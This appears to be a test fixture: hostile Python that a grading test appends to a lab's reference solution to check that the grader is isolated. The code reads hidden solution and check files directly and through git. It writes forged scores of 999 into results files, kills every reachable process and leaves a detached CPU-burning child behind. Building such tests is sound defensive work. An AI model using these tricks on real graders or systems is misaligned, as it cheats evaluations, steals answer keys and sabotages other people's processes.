# Appended by tests/test_grading_hostile_lab0.py to the reference solution: at
# import, the controller tries to read the lab's secrets by every path it can
# work out from the kit it was given (never a fixed path of one machine),
# forge results, kill every process it can and leave a CPU-burning child
# behind. None of it may change its grade, and the child must not outlive it.
import glob as _glob
import json as _json
import os as _os
import signal as _signal
import subprocess as _subprocess
import sys as _sys
import time as _time
from pathlib import Path as _Path

import nslab as _nslab
from nslab.labs import labs_root as _labs_root


def _probe_files():
    roots = {_labs_root(), _Path(_nslab.__file__).resolve().parents[1] / "labs"}
    for root in sorted(roots):
        # where the lab folders are not even visible, try this lab's own by name
        for lab in sorted(_glob.glob(str(root / "*"))) or [str(root / "00-sdn-warmup")]:
            for part in ("solution", "checks"):
                folder = _Path(lab) / part
                try:
                    names = _os.listdir(folder)
                except OSError as _exc:
                    # a folder that cannot be listed: try the file names the kit gives away
                    print("DENIED", folder, _exc, flush=True)
                    names = ["learning_switch.py", "test_fabric.py", "conftest.py"]
                for name in names:
                    try:
                        with open(folder / name) as _f:
                            text = _f.read()[:300].replace("\n", " ")
                        print("READ", folder / name, text, flush=True)
                    except OSError as _exc:
                        print("DENIED", folder / name, _exc, flush=True)


def _probe_git():
    """The checks out of git objects: the checkout found by `git rev-parse`
    from the kit's own location."""
    kit = _Path(_nslab.__file__).resolve().parent
    git = ["git", "-c", "safe.directory=*", "-C", str(kit)]
    try:
        top = _subprocess.run(
            [*git, "rev-parse", "--show-toplevel"], capture_output=True, text=True, timeout=10
        ).stdout.strip()
        rel = _os.path.relpath(_labs_root() / "00-sdn-warmup" / "checks" / "test_fabric.py", top)
        out = _subprocess.run(
            [*git, "show", f"HEAD:{rel}"], capture_output=True, text=True, timeout=10
        )
        print("GIT", top or "(no checkout)", out.stdout[:300].replace("\n", " "), flush=True)
    except (OSError, _subprocess.SubprocessError) as _exc:
        print("GIT DENIED", _exc, flush=True)


_probe_files()
_probe_git()
for _p in _glob.glob("/tmp/*grade*/results.jsonl") + ["/tmp/results.json"]:
    try:
        with open(_p, "a") as _f:
            _f.write(_json.dumps({"score": 999}) + "\n")
    except OSError as _exc:
        print("DENIED", _p, _exc)
for _pid in [int(d) for d in _os.listdir("/proc") if d.isdigit()]:
    if _pid != _os.getpid() and _pid != _os.getppid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
# A grandchild in its own session that burns a core: it outlives the
# controller unless the grader ends every process of the submission. Bounded
# (5 min) so a failing test does not leave it running for good.
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        print("CHILD", _os.getpid(), flush=True)
        _end = _time.monotonic() + 300
        while _time.monotonic() < _end:
            pass
    _os._exit(0)
_os.wait()
_sys.stdout.flush()
